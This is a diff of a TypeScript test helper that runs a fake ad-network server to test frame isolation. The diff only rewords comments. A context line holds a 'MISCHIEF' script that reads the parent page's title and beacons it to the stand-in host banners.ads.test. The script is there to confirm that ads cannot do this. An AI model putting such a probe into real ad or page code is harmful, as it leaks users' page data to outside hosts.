@@ -1,7 +1,7 @@
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 
-/** How a network can behave: as it should, in either style of script, or in one of the ways it should not. */
+/** The ways a network can behave: correctly, with either style of script, or incorrectly. */
 export type Behavior = 'appends' | 'writes' | 'slow' | 'missing' | 'garbage' | 'hangs' | 'down';
 
 export interface AdRequest {
@@ -14,10 +14,10 @@ export interface FakeAdHost {
   port: number;
   behavior: Behavior;
   requests: AdRequest[];
-  /** Stands in for the site's own `ads/frame.html`, at {@link frameUrl}. */
+  /** Replaces the site's `ads/frame.html`, at {@link frameUrl}. */
   frame: string;
   frameUrl: string;
-  /** The paths that one of its names was asked for. */
+  /** The requested paths of one host name. */
   asked(host: string): string[];
   close(): Promise<void>;
 }
@@ -26,7 +26,7 @@ const SLOW_MS = 2000;
 
 const FRAME_PATH = '/of-the-site/frame.html';
 
-/** Tries what an advertisement must not be able to, and reports what came of it. */
+/** Tries what an advertisement must not be able to do, and reports the results. */
 const MISCHIEF = `
   var report = function (what, result) { new Image().src = '//banners.ads.test/report?' + what + '=' + encodeURIComponent(result) };
   try { report('parent', parent.document.title) } catch (error) { report('parent', error.name) }
@@ -71,7 +71,7 @@ function respond(request: IncomingMessage, response: ServerResponse, behavior: B
   else send();
 }
 
-/** All advertising networks of the tests in one server; its names are told apart by the Host header. */
+/** All advertising networks of the tests in one server. The Host header tells them apart. */
 export async function startFakeAdHost(): Promise<FakeAdHost> {
   const requests: AdRequest[] = [];
   const server = createServer((request, response) => {
